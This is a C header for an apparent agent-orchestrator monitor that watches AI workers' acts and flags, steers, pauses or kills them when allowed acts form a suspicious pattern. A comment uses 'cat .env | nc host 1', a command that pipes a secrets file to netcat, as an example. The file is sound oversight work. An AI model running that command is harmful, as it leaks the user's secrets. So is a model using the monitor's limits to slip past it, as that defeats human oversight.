/*
 * monitor.h - acts that are allowed one by one, and suspicious together.
 *
 * Rules (rules.h) look at the stream of all acts of a run's workers, as it
 * stands in the audit: commands, writes, requests with their verdicts, and
 * summaries. The same stream gives the same hits, now or later from the chain
 * (replay.h).
 *
 *	struct monitor *m = monitor_create(&rules, &place);     takes both
 *	n = monitor_feed(m, &act, hits, nitems(hits));
 *	... what hits[i].rule->action says is for the caller to do
 *	monitor_worker_gone(m, "w3");
 *	monitor_free(m);
 *
 * Feed it before the verdict is sent: an act that completes a pattern can then
 * still be held. Actions: flag (told and recorded), steer (the worker's model
 * is told something at its next turn), pause (the worker goes no further until
 * the person has answered), kill (the worker is ended).
 *
 * One act can be several steps of a rule when each of them names a class
 * ("cat .env | nc host 1"); without a class an act is one step.
 *
 * Memory is bounded whatever workers do: of each rule and worker what its
 * counts ask for (window.h), with "same" for MONITOR_KEYS subjects of a worker
 * or MONITOR_KEYS_RUN of a run, those of which the least was seen make room;
 * MONITOR_WORKERS workers. flag and steer are told at most MONITOR_TOLD times
 *of one rule and worker; pause and kill always.
 */
#ifndef ORCHESTRATOR_MONITOR_MONITOR_H
#define ORCHESTRATOR_MONITOR_MONITOR_H

#include "orchestrator/monitor/class.h"
#include "orchestrator/monitor/rules.h"

#define MONITOR_KEYS 16
#define MONITOR_KEYS_RUN 256
#define MONITOR_WORKERS 4097 /* RUN_MAX_WORKERS, and the slot for verifying */
#define MONITOR_TOLD 20

struct monitor;

struct monitor_act {
	double t; /* seconds; one that goes back counts as the last */
	const char *worker, *act, *subject;
	const char *detail;  /* JSON, or NULL */
	const char *verdict; /* allow, deny; of a summary its own */
};

struct monitor_hit {
	const struct monitor_rule *rule; /* lives as long as the monitor */
	/* What completed it: a path, host or command. Yours. */
	char *subject;
};

/* Takes what both hold and leaves them empty. */
struct monitor *monitor_create(
    struct monitor_rules *rules, struct monitor_place *place);
void monitor_free(struct monitor *m);
const struct monitor_rules *monitor_rules(const struct monitor *m);
/* The place, to say more of it before the first act. */
struct monitor_place *monitor_place(struct monitor *m);

/* Acts that are not a worker's (worker ""), and "monitor" and "network_end",
 * are passed over. Returns how many hits there are, each rule once, the
 * strongest action first; at most max. */
size_t monitor_feed(struct monitor *m, const struct monitor_act *a,
    struct monitor_hit *ret, size_t max);
void monitor_worker_gone(
    struct monitor *m, const char *worker); /* m: or NULL */
/* What the run as a whole has seen stays. */
void monitor_all_gone(struct monitor *m);
/* Windows that are alive, for tests of its limits. */
size_t monitor_windows(const struct monitor *m);

#endif
